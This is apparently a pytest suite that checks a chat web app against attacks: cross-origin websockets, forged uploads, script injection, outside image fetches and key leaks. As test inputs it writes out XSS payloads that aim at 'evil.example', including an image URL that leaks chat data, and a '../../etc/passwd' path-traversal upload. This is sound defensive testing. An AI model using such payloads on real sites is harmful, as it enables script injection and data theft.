"""Those who try to get in, to make a browser fetch, or to run what they wrote, in vain.

What is not here: keys with line breaks (test_settings), passwords (test_password), budgets
(test_budgeted), secrets in a deployment (test_deploy).
"""

from __future__ import annotations

import json
import socket
import urllib.error
import urllib.request
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.chat_page import ChatPage, opened
from tests.browser.linking import follow, fragment
from tests.fakes.service import KEY, ScriptedService, answering

pytestmark = pytest.mark.one_page

WICKED = (
    "<script>window.gotIn = true</script> <img src=http://evil.example/a.png onerror=gotIn=true> "
    "![see](http://evil.example/b.png?chat=secret) [![c](http://evil.example/c.png)](javascript:x) "
    "<iframe src=http://evil.example></iframe> [click](javascript:window.gotIn=true) "
    "<svg onload=gotIn=true> <style>@import url(http://evil.example/d.css)</style> "
    "![data](data:image/svg+xml;base64,PHN2Zz4=) :material/home: ![r][r]\n\n"
    "[r]: http://evil.example/e.png"
)


def handshake(address: str, origin: str) -> str:
    """The status line that a page of this origin gets for a websocket."""
    host = urlsplit(address).netloc
    request = (
        f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nOrigin: {origin}\r\n"
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    name, _, port = host.partition(":")
    with socket.create_connection((name, int(port)), timeout=20) as connection:
        connection.sendall(request.encode())
        return connection.recv(1000).decode().split("\r\n")[0]


def test_a_page_of_another_site_gets_no_websocket(app: str) -> None:
    assert " 101 " in handshake(app, app)
    assert " 403 " in handshake(app, "http://evil.example")


def test_a_forged_upload_is_refused(chat: ChatPage, app: str) -> None:
    expect(chat.input).to_be_enabled()
    for path in ("guessed-session/file", "../../etc/passwd", "x/y?a=b"):
        forged = urllib.request.Request(
            f"{app}/_stcore/upload_file/{path}", data=b"--x--", method="PUT"
        )
        forged.add_header("Content-Type", "multipart/form-data; boundary=x")
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(forged, timeout=20)
        assert refused.value.code in (400, 403, 404, 405)


def expect_unharmed(chat: ChatPage) -> None:
    """Nothing was fetched (which `chat` asserts at the end), and nothing ran."""
    assert chat.page.evaluate("window.gotIn ?? null") is None
    messages = chat.messages
    assert messages.locator("img, iframe, script, svg[onload], object, embed").count() == 0
    for link in messages.locator("a").all():
        assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))


def test_a_picture_of_another_host_is_not_fetched_even_if_it_got_into_the_page(
    chat: ChatPage,
) -> None:
    blocked = chat.page.evaluate("""() => new Promise((resolve) => {
      addEventListener("securitypolicyviolation", ({ blockedURI }) => resolve(blockedURI));
      document.body.append(Object.assign(new Image(), { src: "http://127.0.0.1:1/leak.png" }));
      setTimeout(() => resolve("nothing was blocked"), 5000);
    })""")
    assert blocked == "http://127.0.0.1:1/leak.png"


def test_an_answer_can_neither_fetch_nor_run(chat: ChatPage, service: ScriptedService) -> None:
    service.enqueue(answering(*[WICKED[place : place + 7] for place in range(0, len(WICKED), 7)]))
    chat.ask(WICKED)
    chat.expect_answer(1, "window.gotIn")
    expect(chat.question(1)).to_contain_text("<script>")
    expect_unharmed(chat)


def test_a_title_of_the_list_can_neither_fetch_nor_run(chat: ChatPage) -> None:
    chat.ask("<img src=http://evil.example/t.png onerror=gotIn=true>")
    chat.expect_answer(1, "Answer 1.")
    expect(chat.sidebar.locator(".chats li .open")).to_contain_text("<img src=")
    expect(chat.sidebar.locator(".chats img")).to_have_count(0)
    expect_unharmed(chat)


@pytest.mark.parametrize("is_linked", [False, True], ids=["in a file", "in a link"])
def test_a_transcript_can_neither_fetch_nor_run_nor_name_another_service(
    chat: ChatPage, service: ScriptedService, *, is_linked: bool
) -> None:
    messages = [
        {"role": "system", "content": WICKED},
        {"role": "user", "content": WICKED},
        {"role": "assistant", "content": WICKED},
    ]
    whole = {"messages": messages, "base_url": "http://evil.example/v1", "api_key": "sk-evil"}
    written = json.dumps(whole).encode()
    if is_linked:
        follow(chat, fragment(written))
    else:
        chat.open_more()
        chat.sidebar.locator('input[type="file"]').set_input_files(
            {"name": "a.json", "mimeType": "application/json", "buffer": written}
        )
    expect(chat.answer(1)).to_contain_text("window.gotIn")
    expect_unharmed(chat)
    chat.ask("Q2")
    chat.expect_answer(2, "Answer 1.")
    assert service.last.headers["authorization"] == f"Bearer {KEY}"


def test_a_page_that_opens_the_app_has_no_hand_on_it(tab: Page, app: str) -> None:
    # Else it could send it one chat in a link after another.
    with tab.expect_popup() as popup:
        tab.evaluate("(address) => { window.opened = open(address) }", app)
    ChatPage(popup.value)
    assert tab.evaluate("window.opened.closed")
    assert popup.value.evaluate("opener") is None


def test_the_key_is_nowhere_in_what_the_browser_gets(tab: Page, app: str) -> None:
    received: list[bytes] = []
    tab.on(
        "websocket",
        lambda opened: opened.on(
            "framereceived",
            lambda frame: received.append(frame if isinstance(frame, bytes) else frame.encode()),
        ),
    )
    chat = opened(tab, app)
    chat.ask("Q1")
    chat.expect_answer(1, "Answer 1.")
    assert received
    assert KEY.encode() not in b"".join(received)
    assert KEY not in tab.content()
